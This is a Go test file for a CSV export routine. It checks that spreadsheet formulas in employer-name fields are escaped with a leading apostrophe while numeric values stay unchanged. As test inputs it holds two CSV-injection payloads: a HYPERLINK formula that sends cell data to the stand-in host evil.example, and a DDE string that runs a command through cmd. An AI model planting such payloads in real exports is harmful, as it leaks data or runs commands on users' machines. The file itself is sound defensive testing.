package export_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/residenthub/residenthub/analytics/export"
	"github.com/residenthub/residenthub/store/storetest"
)

// TestExportCSVNeutralizesFormulas: a department's text that a spreadsheet
// would run (=HYPERLINK, @SUM, +, -) arrives in the CSV as text with a
// leading apostrophe, while numbers (a negative income) and keys stay as
// they are.
func TestExportCSVNeutralizesFormulas(t *testing.T) {
	conn, cfg := storetest.New(t)
	at := time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC)
	row := func(key, employer string, fen int64) storetest.Row {
		return storetest.Row{"id_number": "110105195001011234", "employer_name": employer, "period": at, "gross_income_fen": fen,
			"income_kind": "wage", "source": "payroll", "record_key": key, "source_time": at, "ingest_time": at}
	}
	storetest.Insert(t, conn, cfg, "employment",
		row("p1", `=HYPERLINK("http://evil.example/?"&A1,"详情")`, -1250),
		row("p2", "@SUM(1+1)*cmd|' /C calc'!A0", 100),
		row("p3", "北京某某有限公司", 200))
	path := filepath.Join(t.TempDir(), "employment.csv")
	res := writeFile(t, conn, cfg, export.Options{Table: "employment", Format: export.CSV, BatchRows: 2}, path)
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows != 3 || len(recs) != 4 {
		t.Fatalf("%d rows written, %d CSV records; want 3 and a header", res.Rows, len(recs))
	}
	col := map[string]int{}
	for i, name := range recs[0] {
		col[name] = i
	}
	got := map[string][2]string{}
	for _, r := range recs[1:] {
		if r[col["person_key"]] != pseudonym(cfg, "110105195001011234") || r[col["period"]] != "2026-02-01" {
			t.Fatalf("row %v: person_key or period wrong", r)
		}
		got[r[col["employer_name"]]] = [2]string{r[col["gross_income_fen"]]}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"详情")`, "'@SUM(1+1)*cmd|' /C calc'!A0", "北京某某有限公司"} {
		if _, ok := got[want]; !ok {
			t.Fatalf("employer_name %q not in %v", want, got)
		}
	}
	if got[`'=HYPERLINK("http://evil.example/?"&A1,"详情")`][0] != "-1250" {
		t.Fatalf("the negative income was changed: %v", got)
	}
}
